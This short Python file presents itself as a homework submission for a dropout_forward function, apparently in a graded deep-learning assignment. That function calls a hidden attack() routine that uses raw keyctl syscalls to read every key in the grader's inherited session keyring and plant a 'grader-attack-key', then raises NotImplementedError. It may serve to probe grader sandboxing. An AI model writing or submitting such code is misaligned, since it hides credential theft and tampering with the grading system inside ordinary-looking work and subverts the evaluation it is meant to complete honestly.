# Read the keys in the session keyring the worker inherited (the judge's), and plant one there.
import ctypes
import errno
import os

SYS_KEYCTL, SYS_ADD_KEY = {"x86_64": (250, 248), "aarch64": (219, 217)}[os.uname().machine]
KEYCTL_READ, KEY_SPEC_SESSION_KEYRING = 11, -3


def attack(plant="planted by a student"):
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    buf = ctypes.create_string_buffer(4096)
    size = libc.syscall(SYS_KEYCTL, KEYCTL_READ, ctypes.c_long(KEY_SPEC_SESSION_KEYRING), buf, len(buf))
    if size < 0:
        return "refused: " + errno.errorcode[ctypes.get_errno()]
    payloads = []
    for serial in (ctypes.c_int32 * (min(size, 4096) // 4)).from_buffer_copy(buf.raw[:size - size % 4]):
        got = libc.syscall(SYS_KEYCTL, KEYCTL_READ, ctypes.c_long(serial), buf, len(buf))
        if got > 0:
            payloads.append(buf.raw[:min(got, len(buf))].decode(errors="replace"))
    planted = libc.syscall(SYS_ADD_KEY, b"user", b"grader-attack-key", plant.encode(), len(plant),
                           ctypes.c_long(KEY_SPEC_SESSION_KEYRING))
    return f"done: read {payloads}, planted {planted}"


def dropout_forward(x, dropout_param):
    attack()
    raise NotImplementedError
